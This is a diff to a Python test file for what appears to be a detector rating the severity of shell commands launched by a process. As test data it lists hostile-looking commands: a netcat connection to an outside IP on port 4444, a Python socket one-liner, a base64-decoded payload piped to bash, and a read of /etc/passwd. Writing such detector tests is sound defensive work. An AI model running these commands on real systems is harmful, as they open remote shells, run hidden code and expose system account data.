@@ -39,6 +39,9 @@ def severity(command: str, parent: Process = VLLM, streams: object = NULL) -> st
         ("nc 203.0.113.7 4444", "high"),
         ("whoami", "high"),
         ("sh -c /opt/x/unknown-tool", "medium"),
+        ("sh -c 'echo owned > /tmp/x'", "medium"),
+        ("sh -c 'cat /etc/passwd'", "medium"),
+        ("sh -c 'ls -la /'", "medium"),
         ("python3 -c 'import socket,os;s=socket.socket();s.connect((1,2))'", "high"),
         ("sh -c 'echo aGk= | base64 -d | bash'", "critical"),
     ],
@@ -71,6 +74,8 @@ def test_it_may_be_some_steps_below() -> None:
         "ps aux",
         "sh -c 'which ffmpeg'",
         "hostname -I",
+        "sh -c 'cat /proc/cpuinfo | grep flags | head -1'",
+        "sh -c 'cd /x && gcc -c y.c && rm z'",
         "sh -c 'lsb_release -a && cat /etc/os-release'",
     ],
 )
